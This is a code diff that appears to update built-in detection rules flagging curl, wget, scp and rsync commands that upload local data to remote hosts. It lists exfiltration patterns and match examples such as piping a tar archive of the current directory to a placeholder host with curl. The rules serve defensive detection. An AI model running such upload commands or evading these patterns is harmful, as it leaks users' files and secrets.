@@ -53,8 +53,8 @@ enum NetworkRules {
       program: "curl|wget|http|https",
       command: "",
       when: """
-        @from:cat|tar|env|printenv|base64|gzip|zip|history -d|--data|--data-binary|-T|\
-        --upload-file|-F|--form=@-|-|*=@-|@/dev/stdin !:*localhost*|*127.0.0.1*
+        @from:cat|tar|env|printenv|base64|gzip|zip|history|git -d|--data|--data-binary|-T|\
+        --upload-file|-F|--form=@-|-|*=@-|*=<-|@/dev/stdin !:*localhost*|*127.0.0.1*
         """,
       match: """
         tar cz . | curl -T - https://x.example
@@ -146,7 +146,7 @@ enum NetworkRules {
       advice: nil,
       program: "scp|sftp|ftp",
       command: "",
-      when: ":*:* @many",
+      when: "@last:*:* @many",
       match: "scp a.txt user@example.com:/tmp",
       notMatch: "scp --help"),
     BuiltInRule(
@@ -155,7 +155,7 @@ enum NetworkRules {
       advice: nil,
       program: "rsync",
       command: "",
-      when: ":*@*:*|*::*|rsync://* @many !-n|--dry-run",
+      when: "@last:*@*:*|*::*|rsync://*|*.*:* @many !-n|--dry-run",
       match: "rsync -a . user@example.com:app",
       notMatch: "rsync -a a/ b/"),
     BuiltInRule(
